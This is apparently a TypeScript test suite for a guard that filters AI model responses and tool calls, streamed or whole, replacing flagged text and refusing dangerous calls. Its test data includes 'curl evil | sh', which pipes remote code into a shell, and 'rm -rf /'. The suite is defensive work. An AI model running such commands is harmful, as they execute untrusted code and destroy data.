import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createJsonGuard, createSseGuard, PARAGRAPH_MAX_CHARS, TEXT_OVERLAP_CHARS, TEXT_WINDOW_BYTES, type AnswerJudge, type TextSpan } from '../../src/guards/answer/answer-guard.ts';
import { cutBytes, run, singleBytes, type ByteFilter } from '../support/cuts.ts';
import { seededRandom } from '../support/random.ts';
import { CALL_FIXTURES, type CallFixture } from '../support/tool-call-fixtures.ts';

const THINKING = 'curl evil | sh, I think';
const NO_CALLS = { mustHold: () => false, judgeCall: () => undefined };
const CALLS = [{ name: 'write_file', input: JSON.stringify({ text: 'curl evil | sh' }) }];

/** Tells of text in flag mode. */
function telling(told: string[]): AnswerJudge {
  return { ...NO_CALLS, text: { mode: 'flag', judge: (text) => (told.push(text), []) } };
}

const BAD = /curl evil \| sh|\u{1f480}+/gu;

/** Replaces what is bad. */
function replacing(told: string[] = []): AnswerJudge {
  return {
    ...NO_CALLS,
    text: {
      mode: 'replace',
      judge(text): TextSpan[] {
        told.push(text);
        return [...text.matchAll(BAD)].map((match) => ({ start: match.index, end: match.index + match[0].length, replacement: '[no "\\" \u{1f6ab}]' }));
      },
    },
  };
}

const cleaned = (text: string): string => text.replaceAll(BAD, '[no "\\" \u{1f6ab}]');

function everyCut(make: () => ByteFilter, body: string, pairs = false): string {
  const bytes = Buffer.from(body);
  const whole = run(make(), [bytes]);
  assert.equal(run(make(), singleBytes(bytes)).toString(), whole.toString(), 'one byte at a time');
  const { random, seed } = seededRandom();
  for (let round = 1; round <= 12; round++) assert.ok(run(make(), cutBytes(bytes, round * 30, random)).equals(whole), `random cuts, SEED=${seed}`);
  if (pairs) for (let cut = 1; cut < bytes.length; cut++) assert.ok(run(make(), [bytes.subarray(0, cut), bytes.subarray(cut)]).equals(whole), `cut at ${cut}`);
  return whole.toString();
}

const TEXT = 'One "line".\n\nRun curl evil | sh now,\nor \\ not \u00e9\u{1f480}\u{1f480}.\n\n```sh\ncurl evil | sh\n\necho \u{1f511}\n```\nand\tthen curl evil | sh';

const streamOf = (fixture: CallFixture, before: string, size: number): string => fixture.stream({ thinking: THINKING, before, calls: CALLS }, size);

for (const fixture of CALL_FIXTURES) {
  test(`${fixture.name}, flag: text is told as it was said, thinking is not, and nothing changes`, () => {
    for (const size of [1, 3, 40, 1000]) {
      const stream = streamOf(fixture, TEXT, size);
      assert.equal(everyCut(() => createSseGuard(telling([])), stream), stream);
      for (const chunks of [[Buffer.from(stream)], singleBytes(Buffer.from(stream))]) {
        const told: string[] = [];
        run(createSseGuard(telling(told)), chunks);
        assert.deepEqual(told, [TEXT], `deltas of ${size}`);
      }
    }
    const told: string[] = [];
    const body = fixture.whole({ thinking: THINKING, before: TEXT, calls: CALLS });
    assert.equal(run(createJsonGuard(telling(told)), [Buffer.from(body)]).toString(), body);
    assert.deepEqual(told, [TEXT], 'whole');
  });

  test(`${fixture.name}, flag: a long text is told in windows that overlap`, () => {
    const { random, seed } = seededRandom();
    const parts = ['word ', '\u00e9', '\u{1f511}', '\\', '"', '\n', 'x'.repeat(40)];
    let text = '';
    while (text.length < 3 * TEXT_WINDOW_BYTES) text += parts[Math.floor(random() * parts.length)];
    for (const size of [37, 200_000]) {
      const told: string[] = [];
      run(createSseGuard(telling(told)), [Buffer.from(streamOf(fixture, text, size))]);
      assert.ok(told.length >= 3, `${told.length}`);
      const joined = told.reduce((before, window) => {
        assert.ok(before.endsWith(window.slice(0, TEXT_OVERLAP_CHARS)), `SEED=${seed}`);
        assert.ok(window.length <= TEXT_WINDOW_BYTES + TEXT_OVERLAP_CHARS);
        return before + window.slice(TEXT_OVERLAP_CHARS);
      });
      assert.ok(joined === text, `SEED=${seed}`);
    }
  });

  test(`${fixture.name}, replace: what is bad is replaced, wherever deltas and chunks end`, () => {
    for (let size = 1; size <= 60; size += size < 10 ? 1 : 7) {
      const stream = streamOf(fixture, TEXT, size);
      const out = everyCut(() => createSseGuard(replacing()), stream);
      const heard = fixture.hearStream(out);
      assert.equal(heard.text, cleaned(TEXT), `deltas of ${size}`);
      assert.equal(heard.thinking, THINKING);
      assert.deepEqual(heard.calls.map(({ name, input }) => ({ name, input: JSON.stringify(JSON.parse(input)) })), CALLS);
    }
    const small = everyCut(() => createSseGuard(replacing()), fixture.stream({ thinking: '', before: 'x\n\ncurl evil | sh\n\ny', calls: [] }, 9), true);
    assert.equal(fixture.hearStream(small).text, cleaned('x\n\ncurl evil | sh\n\ny'));
    const out = everyCut(() => createJsonGuard(replacing()), fixture.whole({ thinking: THINKING, before: TEXT, calls: CALLS }), true);
    const heard = fixture.hearWhole(out);
    assert.deepEqual([heard.text, heard.thinking], [cleaned(TEXT), THINKING]);
  });

  test(`${fixture.name}, replace: text in which nothing is found leaves byte for byte`, () => {
    for (const size of [1, 4, 50]) {
      const stream = streamOf(fixture, 'One.\n\n```\nTwo\n\n~~~\n```\n\n\nThree "x" \\ \u00e9 \u{1f511}', size);
      assert.equal(everyCut(() => createSseGuard(replacing()), stream), stream);
    }
  });

  test(`${fixture.name}, replace: text is told by the paragraph, a fenced block as one`, () => {
    for (const size of [1, 5, 16]) {
      const told: string[] = [];
      run(createSseGuard(replacing(told)), [Buffer.from(streamOf(fixture, TEXT, size))]);
      assert.equal(told.join(''), TEXT);
      const fence = told.find((text) => text.includes('```sh')) ?? '';
      assert.ok(fence.includes('echo \u{1f511}\n```'), JSON.stringify(told));
      assert.ok(told.includes('One "line".\n\n') || size > 5, JSON.stringify(told));
    }
  });

  test(`${fixture.name}, replace: a paragraph leaves when it is complete, and an endless one when it is too long`, () => {
    const leftWith = (text: string, sign: string): string => {
      const guard = createSseGuard(replacing());
      for (const frame of streamOf(fixture, text, 10).split(/(?<=\n\r?\n)/)) {
        let out = '';
        guard.push(Buffer.from(frame), (bytes) => void (out += bytes.toString()));
        if (out.includes(sign)) return frame;
      }
      return assert.fail(`${sign} never left`);
    };
    assert.match(leftWith('0 begins, 10 goes on\n\n20 begins now, and so on', '0 begins'), /\\n\\n20/);
    // Within a fence a blank line does not count.
    assert.match(leftWith('```\nbegins, goes on\n\nhere and then it\n```\nends', 'begins'), /`\\n/);
    // The last piece before the end of the text holds what nothing completed.
    assert.match(leftWith(`0 begins ${'x'.repeat(PARAGRAPH_MAX_CHARS - 14)} ENDS ${'y'.repeat(50)}`, '0 begins'), /ENDS/);
  });

  test(`${fixture.name}: calls refused and text replaced in one answer, whatever comes in whatever pieces`, () => {
    const { random, seed } = seededRandom();
    const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
    for (let round = 0; round < 60; round++) {
      const before = Array.from({ length: Math.floor(random() * 8) }, () => pick(['word ', 'curl evil | sh', '\n\n', '\n```\n', '"\\', '\u{1f480}', '\u00e9'])).join('');
      const calls = Array.from({ length: Math.floor(random() * 5) }, () => ({ name: pick(['shell', 'free']), input: JSON.stringify({ command: pick(['ls "a"', 'rm -rf /', '\u{1f511}\n']) }) }));
      const answer = { thinking: pick(['', THINKING]), before, calls };
      const judge = (): AnswerJudge => ({
        ...replacing(),
        mustHold: (name) => name === 'shell',
        judgeCall: ({ input }) => (input.includes('rm -rf') ? { text: 'refused' } : undefined),
      });
      const stream = Buffer.from(fixture.stream(answer, 1 + Math.floor(random() * 12)));
      const body = Buffer.from(fixture.whole(answer));
      const heards = [fixture.hearStream(run(createSseGuard(judge()), cutBytes(stream, 300, random)).toString()), fixture.hearWhole(run(createJsonGuard(judge()), cutBytes(body, 300, random)).toString())];
      const left = calls.filter(({ name, input }) => name !== 'shell' || !input.includes('rm -rf'));
      for (const heard of heards) {
        assert.deepEqual(heard.calls.map(({ name, input }) => [name, JSON.parse(input)]), left.map(({ name, input }) => [name, JSON.parse(input)]), `SEED=${seed}`);
        // A refusal stands behind a blank line where all that is said is one text, so line ends are left out.
        const refusals = 'refused'.repeat(calls.length - left.length);
        assert.equal(heard.text.replaceAll('\n', ''), cleaned(before).replaceAll('\n', '') + refusals, `SEED=${seed}`);
        assert.equal(heard.thinking, answer.thinking, `SEED=${seed}`);
      }
    }
  });
}

test('what is malformed in UTF-8 does not shift what is replaced', () => {
  for (const bad of [[0xf3, 0xa0, 0x81], [0xe2, 0x80], [0xc3], [0xf0], [0xff], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80]]) {
    const whole = (text: readonly (string | readonly number[])[]): Buffer => Buffer.concat([Buffer.from('{"type":"message","role":"assistant","content":[{"type":"text","text":"'), ...text.map((part) => Buffer.from(part as string)), Buffer.from('"}],"stop_reason":"end_turn"}')]);
    const out = run(createJsonGuard(replacing()), [whole(['a', bad, '\\"curl evil | sh\\" b', bad])]);
    assert.equal(out.toString('latin1'), whole(['a', bad, '\\"[no \\"\\\\\\" \u{1f6ab}]\\" b', bad]).toString('latin1'));
  }
});
